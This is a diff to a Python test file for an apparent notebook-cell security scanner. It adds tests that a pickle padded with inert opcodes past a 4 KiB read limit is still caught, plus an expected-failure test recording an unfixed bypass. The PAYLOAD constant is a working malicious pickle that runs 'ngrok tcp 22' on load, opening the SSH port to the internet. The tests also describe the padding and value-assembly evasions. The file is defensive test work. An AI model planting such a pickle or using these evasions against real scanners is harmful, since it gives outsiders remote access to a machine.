@@ -118,6 +118,39 @@ def test_an_honest_variable_chain_expands_as_bash_does():
         [["mkdir", "-p", "data/out/a", "data/out/b", "data/out_bak"]]
 
 
+# ---------------------------------------------------------------- cell check: pickles
+
+PAYLOAD = b"cos\nsystem\n(S'ngrok tcp 22'\ntR."  # os.system('ngrok tcp 22') as it loads
+
+
+def _refused(cell: str) -> bool:
+    found = check(cell)
+    return bool({d.signature.action or "category" for d in found} - {"warn", "record"})
+
+
+@pytest.mark.parametrize("pad", [0, 2100, 100_000], ids=["bare", "past 4 KiB", "200 KB"])
+def test_a_pickle_padded_with_inert_ops_is_read_to_its_end(pad):
+    """Was missed: a constant pickle was read for its first 4,096 bytes (MAX_VALUE), so
+    2,100 ``N0`` pairs (None, popped) before its GLOBAL hid it. Fixed: read to its end (a
+    cell is 256 KiB at most, an op a byte at least: 0.3 s for the largest)."""
+    started = time.perf_counter()
+    assert _refused("import pickle\npickle.loads(%r)" % (b"N0" * pad + PAYLOAD))
+    assert time.perf_counter() - started < 5.0
+
+
+def test_an_honest_pickle_constant_is_not_touched():
+    import pickle
+    data = pickle.dumps({"weights": [0.5] * 3000, "labels": ["cat", "dog"], "shape": (3, 224)})
+    assert not check("import pickle\nstate = pickle.loads(%r)" % data)
+
+
+@pytest.mark.xfail(strict=True, raises=AssertionError,
+                   reason="a value the cell assembles (b'N0' * 3000 + payload) longer than "
+                          "MAX_VALUE (4,096) is not folded at all: the pickle is unknown")
+def test_a_pickle_assembled_past_the_folding_limit_is_read():
+    assert _refused("import pickle\npickle.loads(b'N0' * 3000 + %r)" % PAYLOAD)
+
+
 # ---------------------------------------------------------------- script reader: .pth files
 
 def _site_env(home) -> dict:
